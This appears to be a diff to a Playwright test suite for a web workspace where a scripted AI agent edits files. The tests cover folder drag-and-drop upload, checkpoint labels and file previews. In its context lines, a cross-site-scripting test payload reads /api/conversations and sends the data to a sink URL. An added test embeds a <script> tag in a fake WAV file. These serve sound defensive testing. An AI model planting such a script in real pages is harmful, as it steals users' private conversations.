@@ -1,13 +1,16 @@
 import assert from 'node:assert/strict'
-import { existsSync, readFileSync, writeFileSync } from 'node:fs'
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { after, before, describe, test } from 'node:test'
+import type { Locator, Page } from 'playwright-core'
 import { newGate } from '../packages/server/src/testing/scripted-model/gate.ts'
 import { gate, tool } from '../packages/server/src/testing/scripted-model/script.ts'
+import { temporaryFolder } from '../packages/server/src/testing/server-process.ts'
 import { World } from '../packages/server/src/testing/world.ts'
 import { text } from '../packages/web/src/text.ts'
 import { fileText } from '../packages/web/src/text-files.ts'
 import { live } from '../packages/web/src/text-live.ts'
+import { bytes } from '../packages/web/src/ui/format-bytes.ts'
 import { Surfer } from './browser.ts'
 import { ConversationTab } from './conversation.ts'
 import { payloads } from './payload-table.ts'
@@ -17,6 +20,21 @@ const finish = tool('finish', { message: 'Done.' })
 /** A script that reads what is not its own, and tells a server that nobody may ask. */
 const owned = (sink: string): string =>
   `document.title='owned';fetch('/api/conversations').then(r=>r.text()).then(t=>fetch('${sink}/stolen?'+t));new Image().src='${sink}/image'`
+
+/** Drops files and folders of this machine onto what is there, as a file manager does. */
+async function drop(tab: Page, onto: Locator, files: readonly string[]): Promise<void> {
+  const box = await onto.boundingBox()
+  assert.ok(box)
+  const browser = await tab.context().newCDPSession(tab)
+  const at = { x: box.x + box.width / 2, y: box.y + Math.min(box.height / 2, 200) }
+  for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
+    await browser.send('Input.dispatchDragEvent', {
+      type,
+      ...at,
+      data: { items: [], files: [...files], dragOperationsMask: 1 },
+    })
+  await browser.detach()
+}
 
 describe('the workspace in the page', () => {
   let surfer: Surfer
@@ -69,6 +87,66 @@ describe('the workspace in the page', () => {
     ])
     assert.equal(fetched.suggestedFilename(), 'sent up.txt')
     assert.equal(readFileSync(await fetched.path(), 'utf8'), 'from here')
+    visit.assertQuiet()
+  })
+
+  test('[P48] a dropped folder is sent up with all that is in it; where a name is taken already the page asks', async () => {
+    await using world = await World.start({
+      script: ({ turn }) => (turn === 0 ? tool('execute_bash', { command: 'echo theirs > notes.txt' }) : finish),
+    })
+    await using own = await temporaryFolder()
+    const site = join(own.path, 'site')
+    mkdirSync(join(site, 'pages', 'empty'), { recursive: true })
+    writeFileSync(join(site, 'index.html'), '<h1>Home</h1>')
+    for (let at = 0; at < 150; at++) writeFileSync(join(site, 'pages', `${at}.txt`), `page ${at}`)
+    writeFileSync(join(own.path, 'notes.txt'), 'mine')
+    await using visit = await surfer.visit(world.server.url)
+    const conversation = await ConversationTab.begin(visit.tab, 'write a note')
+    await conversation.state(text.now.finished).waitFor()
+    const workspace = join(world.dataDir, 'workspaces', conversation.session)
+    const files = await conversation.panel(text.panels.files)
+    await files.getByRole('treeitem', { name: 'notes.txt' }).waitFor()
+
+    await drop(visit.tab, files.getByRole('tree'), [site, join(own.path, 'notes.txt')])
+    await files.getByText(fileText.transfers.uploaded(151)).waitFor()
+    await files.getByText(fileText.transfers.emptyFolder).waitFor()
+    assert.equal(readFileSync(join(workspace, 'site', 'pages', '149.txt'), 'utf8'), 'page 149')
+    await files.getByRole('treeitem', { name: 'site', exact: true }).waitFor()
+    assert.equal(readFileSync(join(workspace, 'notes.txt'), 'utf8'), 'theirs\n')
+    await files.getByRole('button', { name: fileText.transfers.keepBoth }).click()
+    await files.getByRole('treeitem', { name: 'notes 2.txt' }).waitFor()
+    assert.equal(readFileSync(join(workspace, 'notes 2.txt'), 'utf8'), 'mine')
+    await files.getByRole('button', { name: text.common.close, exact: true }).click()
+
+    await drop(visit.tab, files.getByRole('treeitem', { name: 'site', exact: true }), [join(own.path, 'notes.txt')])
+    await files.getByText(fileText.transfers.uploaded(1)).waitFor()
+    assert.equal(readFileSync(join(workspace, 'site', 'notes.txt'), 'utf8'), 'mine')
+    await drop(visit.tab, files.getByRole('treeitem', { name: 'notes.txt', exact: true }).first(), [
+      join(own.path, 'notes.txt'),
+    ])
+    await files.getByText(fileText.transfers.exists).waitFor()
+    await files.getByRole('button', { name: fileText.transfers.replace }).click()
+    await files.getByText(fileText.transfers.uploaded(1)).waitFor()
+    assert.equal(readFileSync(join(workspace, 'notes.txt'), 'utf8'), 'mine')
+    visit.assertQuiet()
+  })
+
+  test('[R10] checkpoints are called after what followed them, and the start says that it is the oldest', async () => {
+    await using world = await World.start({
+      script: ({ turn }) =>
+        [
+          tool('execute_bash', { command: 'echo one > notes.txt' }),
+          tool('str_replace_editor', { command: 'create', path: 'report.py', file_text: 'print(1)\n' }),
+        ][turn] ?? finish,
+    })
+    await using visit = await surfer.visit(world.server.url)
+    const conversation = await ConversationTab.begin(visit.tab, 'write a note')
+    await conversation.state(text.now.finished).waitFor()
+    const changes = await conversation.panel(text.panels.changes)
+    await changes.getByRole('option', { name: 'Oldest checkpoint, ' }).waitFor({ state: 'attached' })
+    await changes.getByRole('button', { name: fileText.changes.checkpoints }).click()
+    await changes.getByText('before the creation of report.py', { exact: true }).waitFor()
+    await changes.getByText('before echo one > notes.txt', { exact: true }).waitFor()
     visit.assertQuiet()
   })
 
@@ -167,6 +245,18 @@ describe('the workspace in the page', () => {
       await opened.close()
     }
     const files = await conversation.panel(text.panels.files)
+    await files.getByRole('treeitem', { name: 'x.svg' }).click()
+    await files.getByRole('button', { name: fileText.files.asPicture }).click()
+    await files.getByRole('img', { name: fileText.files.picture('x.svg') }).waitFor()
+    await files.getByRole('button', { name: fileText.files.close }).click()
+    writeFileSync(join(workspace, 'x.wav'), `RIFF\0\0\0\0WAVE<script>${code}</script>`)
+    await files.getByRole('treeitem', { name: 'x.wav' }).click()
+    await files.getByText(fileText.files.mediaFailed).waitFor()
+    await files.getByRole('button', { name: fileText.files.close }).click()
+    writeFileSync(join(workspace, 'report.pdf'), '%PDF-1.7\n')
+    await files.getByRole('treeitem', { name: 'report.pdf' }).click()
+    await files.getByText(fileText.files.kinds.pdf(bytes(9))).waitFor()
+    await files.getByRole('button', { name: fileText.files.close }).click()
     for (const name of ['x.html', 'x.svg', 'x.png']) {
       await files.getByRole('treeitem', { name }).click()
       await files.getByRole('region', { name, exact: true }).waitFor()
